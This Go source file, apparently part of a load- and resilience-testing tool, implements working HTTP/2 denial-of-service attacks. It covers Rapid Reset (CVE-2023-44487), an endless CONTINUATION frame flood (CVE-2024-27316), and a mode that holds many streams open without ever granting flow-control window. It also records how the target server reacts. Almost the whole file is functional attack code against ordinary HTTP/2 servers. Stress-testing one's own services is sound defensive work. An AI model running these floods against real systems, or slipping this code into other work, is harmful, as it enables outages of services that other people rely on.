package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"

	"github.com/rempart/rempart/internal/siege/sim"
)

// ErrGoAway is wrapped by the error recorded when the server answered an h2
// attack with GOAWAY.
var ErrGoAway = errors.New("server sent GOAWAY")

// Bounds of the h2 attacks.
const (
	maxH2Streams = 1 << 20 // streams per connection
	maxH2Frames  = 1 << 22 // CONTINUATION frames per connection
	maxH2Read    = 1 << 24 // frames read from a server per connection
)

// h2Flood is the HTTP/2 attack family, one connection per client: h2c with
// prior knowledge on http:// targets, TLS with ALPN h2 on https:// ones.
//
// Params:
//   - mode: rapid-reset (default) — HEADERS then RST_STREAM(CANCEL) at
//     once, streams times (CVE-2023-44487); continuation — one HEADERS
//     without END_HEADERS, then frames CONTINUATION frames of junk header
//     fields, never ending the block (CVE-2024-27316 and kin); streams —
//     open streams concurrent GETs and hold them, never granting flow
//     control window.
//   - streams: streams per connection (rapid-reset 1000, streams 100); each
//     takes one unit of the budget.
//   - frames: CONTINUATION frames per connection (10000).
//   - frame_size: bytes of junk per CONTINUATION frame (1024, at most 16384).
//   - interval: pause between frames or pairs ("0s": as fast as possible).
//   - settle: how long rapid-reset waits after its last pair to see how
//     the server reacted ("1s").
//   - path, user_agent: the request (/live/master.m3u8, a desktop Chrome).
//   - insecure: skip TLS verification on https:// targets (false).
//
// Each connection is recorded once when it ends (latency: how long it
// lived; bytes: DATA received). err is nil when the server did not react,
// else it wraps ErrGoAway or ErrServerClosed and counts the frames sent.
type h2Flood struct{}

// Run attacks over one connection.
func (h2Flood) Run(ctx context.Context, env *sim.Env, c sim.Client) {
	p := params(env, c)
	start := intended(env, c)
	t, err := newTarget(env, p, "h2")
	if err != nil {
		env.Rec.Request(c.Pop, sim.KindAttack, start, 0, 0, 0, err)
		return
	}
	a, err := newH2Attack(p, t)
	if err != nil {
		env.Rec.Request(c.Pop, sim.KindAttack, start, 0, 0, 0, err)
		return
	}
	if ctx.Err() != nil || !take(env) { // the connection's unit; streams take their own
		return
	}
	h, err := dialH2(ctx, env, c, t)
	if err != nil {
		if ctx.Err() == nil {
			env.Rec.Request(c.Pop, sim.KindAttack, start, now(env).Sub(start), 0, 0, err)
		}
		return
	}
	env.Rec.Conn(c.Pop, 1)
	stop := context.AfterFunc(ctx, func() { h.raw.Close() }) // unblock a stuck write
	defer stop()
	a.run(ctx, env, h)
	err = h.close(ctx, a)
	env.Rec.Conn(c.Pop, -1)
	env.Rec.Request(c.Pop, sim.KindAttack, start, now(env).Sub(start), 0, h.dataRecv.Load(), err)
}

// h2Attack is one population's h2 settings.
type h2Attack struct {
	mode      string
	streams   int
	frames    int
	frameSize int
	every     time.Duration
	settle    time.Duration
	hpack     *blockEncoder // encodes block and, in continuation, the junk
	block     []byte        // the request's header block
}

func newH2Attack(p sim.Params, t *target) (*h2Attack, error) {
	a := &h2Attack{
		mode:      p.String("mode", "rapid-reset"),
		frames:    min(max(p.Int("frames", 10_000), 0), maxH2Frames),
		frameSize: min(max(p.Int("frame_size", 1024), 32), maxFrameLen),
		every:     p.Duration("interval", 0),
		settle:    p.Duration("settle", time.Second),
		hpack:     newBlockEncoder(),
	}
	def := 1000
	switch a.mode {
	case "rapid-reset", "continuation":
	case "streams":
		def = 100
	default:
		return nil, fmt.Errorf("h2-flood: mode %q: want rapid-reset, continuation or streams", a.mode)
	}
	a.streams = min(max(p.Int("streams", def), 0), maxH2Streams)
	a.block = a.hpack.request(t.tls != nil, t.host,
		t.path(p.String("path", defaultHotPath)), p.String("user_agent", defaultFloodUA))
	return a, nil
}

// run sends the attack until it is done, the server reacts or ctx ends.
func (a *h2Attack) run(ctx context.Context, env *sim.Env, h *h2conn) {
	switch a.mode {
	case "rapid-reset":
		a.rapidReset(ctx, env, h)
		h.wait(ctx, a.settle)
	case "continuation":
		a.continuation(ctx, h)
		h.wait(ctx, -1)
	case "streams":
		a.openStreams(ctx, env, h)
		h.wait(ctx, -1)
	}
}

// rapidReset opens and cancels streams, one HEADERS+RST_STREAM per write.
func (a *h2Attack) rapidReset(ctx context.Context, env *sim.Env, h *h2conn) {
	for i := range a.streams {
		if h.stopped(ctx) || !take(env) {
			return
		}
		id := uint32(2*i + 1)
		err := h.send(2, func(fr *http2.Framer) error {
			if err := fr.WriteHeaders(a.headers(id, true)); err != nil {
				return err
			}
			return fr.WriteRSTStream(id, http2.ErrCodeCancel)
		})
		if err != nil {
			return
		}
		h.sent.headers.Add(1)
		h.sent.rst.Add(1)
		if a.every > 0 && !sleep(ctx, a.every) {
			return
		}
	}
}

// continuation starts one header block and never ends it.
func (a *h2Attack) continuation(ctx context.Context, h *h2conn) {
	err := h.send(1, func(fr *http2.Framer) error { return fr.WriteHeaders(a.headers(1, false)) })
	if err != nil {
		return
	}
	h.sent.headers.Add(1)
	for range a.frames {
		if h.stopped(ctx) {
			return
		}
		junk := a.hpack.junk(a.frameSize)
		if h.send(1, func(fr *http2.Framer) error { return fr.WriteContinuation(1, false, junk) }) != nil {
			return
		}
		h.sent.continuation.Add(1)
		if a.every > 0 && !sleep(ctx, a.every) {
			return
		}
	}
}

// openStreams opens concurrent GET streams and leaves them open.
func (a *h2Attack) openStreams(ctx context.Context, env *sim.Env, h *h2conn) {
	for i := range a.streams {
		if h.stopped(ctx) || !take(env) {
			return
		}
		hdr := a.headers(uint32(2*i+1), true)
		if h.send(1, func(fr *http2.Framer) error { return fr.WriteHeaders(hdr) }) != nil {
			return
		}
		h.sent.headers.Add(1)
		if a.every > 0 && !sleep(ctx, a.every) {
			return
		}
	}
}

// headers is the HEADERS frame of a GET on stream id, which ends the stream;
// a header block without end leaves END_HEADERS off.
func (a *h2Attack) headers(id uint32, endHeaders bool) http2.HeadersFrameParam {
	return http2.HeadersFrameParam{StreamID: id, BlockFragment: a.block, EndStream: true, EndHeaders: endHeaders}
}

// h2conn is one attack connection: the attack writes, a reader goroutine
// answers SETTINGS and PING and watches how the server reacts.
type h2conn struct {
	conn, raw net.Conn
	start     time.Time
	fr        *http2.Framer // writes to wbuf, reads conn in readLoop

	wmu  sync.Mutex   // guards writes: wbuf, fr's write side and conn
	wbuf bytes.Buffer // frames of one send, written to conn at once
	werr error        // first write error; guarded by wmu

	sent struct{ headers, rst, continuation, frames atomic.Int64 }

	done       chan struct{} // closed when the reader stops
	readErr    error         // why the reader stopped; set before done closes
	goAway     atomic.Bool
	goAwayCode atomic.Uint32
	goAwayLast atomic.Uint32
	rstRecv    atomic.Int64
	hdrRecv    atomic.Int64
	dataRecv   atomic.Int64
}

// dialH2 connects, speaks the preface and starts the reader.
func dialH2(ctx context.Context, env *sim.Env, c sim.Client, t *target) (*h2conn, error) {
	conn, raw, err := t.dial(ctx, env, c.Source)
	if err != nil {
		return nil, err
	}
	if tc, ok := conn.(*tls.Conn); ok && tc.ConnectionState().NegotiatedProtocol != "h2" {
		raw.Close()
		return nil, errors.New("h2-flood: server did not negotiate h2 over TLS")
	}
	h := &h2conn{conn: conn, raw: raw, start: time.Now(), done: make(chan struct{})}
	h.fr = http2.NewFramer(&h.wbuf, bufio.NewReaderSize(conn, 32<<10))
	h.fr.SetMaxReadFrameSize(maxFrameLen)
	h.fr.AllowIllegalReads = true // we watch the server, we do not police it
	err = h.send(1, func(fr *http2.Framer) error {
		h.wbuf.WriteString(http2.ClientPreface) // not a frame
		// SETTINGS_ENABLE_PUSH = 0: nothing pushed at us.
		return fr.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0})
	})
	if err != nil {
		raw.Close()
		return nil, fmt.Errorf("h2-flood: write preface: %w", err)
	}
	go h.readLoop()
	return h, nil
}

// send writes the n frames that put gives the framer in one write to conn.
func (h *h2conn) send(n int, put func(fr *http2.Framer) error) error {
	h.wmu.Lock()
	defer h.wmu.Unlock()
	if h.werr != nil {
		return h.werr
	}
	h.wbuf.Reset()
	if err := put(h.fr); err != nil {
		return err
	}
	if err := h.conn.SetWriteDeadline(time.Now().Add(defaultTimeout)); err != nil {
		h.werr = err
		return err
	}
	if _, err := h.conn.Write(h.wbuf.Bytes()); err != nil {
		h.werr = err
		return err
	}
	h.sent.frames.Add(int64(n))
	return nil
}

// stopped reports whether the attack should stop: ctx done or server gone.
func (h *h2conn) stopped(ctx context.Context) bool {
	select {
	case <-h.done:
		return true
	default:
		return ctx.Err() != nil || h.goAway.Load()
	}
}

// wait holds the connection for d (forever if negative) or until the
// server ends it or ctx is done.
func (h *h2conn) wait(ctx context.Context, d time.Duration) {
	var timeout <-chan time.Time
	if d >= 0 {
		t := time.NewTimer(d)
		defer t.Stop()
		timeout = t.C
	}
	select {
	case <-ctx.Done():
	case <-h.done:
	case <-timeout:
	}
}

// close ends the connection, waits for the reader and describes how the
// server reacted (nil: it did not).
func (h *h2conn) close(ctx context.Context, a *h2Attack) error {
	h.raw.Close()
	<-h.done
	sent := fmt.Sprintf("%d frames sent (%d HEADERS, %d RST_STREAM, %d CONTINUATION); server sent %d HEADERS, %d RST_STREAM",
		h.sent.frames.Load(), h.sent.headers.Load(), h.sent.rst.Load(), h.sent.continuation.Load(),
		h.hdrRecv.Load(), h.rstRecv.Load())
	held := time.Since(h.start).Round(time.Millisecond)
	switch {
	case h.goAway.Load():
		return fmt.Errorf("h2 %s: %w %s (last stream %d) after %s, %s", a.mode, ErrGoAway,
			codeName(http2.ErrCode(h.goAwayCode.Load())), h.goAwayLast.Load(), held, sent)
	case ctx.Err() != nil:
		return nil
	case h.readErr != nil && !errors.Is(h.readErr, net.ErrClosed):
		return fmt.Errorf("h2 %s: %w after %s (%v), %s", a.mode, ErrServerClosed, held, h.readErr, sent)
	}
	return nil
}

// readLoop reads the server's frames until the connection ends.
func (h *h2conn) readLoop() {
	defer close(h.done)
	for range maxH2Read {
		f, err := h.readFrame()
		var se http2.StreamError
		switch {
		case errors.As(err, &se):
			continue // one stream's frame did not parse; the connection goes on
		case err != nil:
			h.readErr = err
			return
		}
		h.onFrame(f)
	}
	h.readErr = errors.New("frame bound reached")
}

// readFrame reads the server's next frame, naming the length of one that
// is too long.
func (h *h2conn) readFrame() (http2.Frame, error) {
	fh, err := h.fr.ReadFrameHeader()
	if errors.Is(err, http2.ErrFrameTooLarge) {
		return nil, fmt.Errorf("frame of %d bytes over the %d we allow", fh.Length, maxFrameLen)
	}
	if err != nil {
		return nil, err
	}
	return h.fr.ReadFrameForHeader(fh)
}

// onFrame reacts to one server frame.
func (h *h2conn) onFrame(f http2.Frame) {
	switch f := f.(type) {
	case *http2.SettingsFrame:
		if !f.IsAck() {
			_ = h.send(1, func(fr *http2.Framer) error { return fr.WriteSettingsAck() })
		}
	case *http2.PingFrame:
		if !f.IsAck() {
			_ = h.send(1, func(fr *http2.Framer) error { return fr.WritePing(true, f.Data) })
		}
	case *http2.GoAwayFrame:
		h.goAwayLast.Store(f.LastStreamID)
		h.goAwayCode.Store(uint32(f.ErrCode))
		h.goAway.Store(true)
	case *http2.RSTStreamFrame:
		h.rstRecv.Add(1)
	case *http2.HeadersFrame:
		h.hdrRecv.Add(1)
	case *http2.DataFrame:
		h.dataRecv.Add(int64(f.Length)) // padding included, as on the wire
	}
}
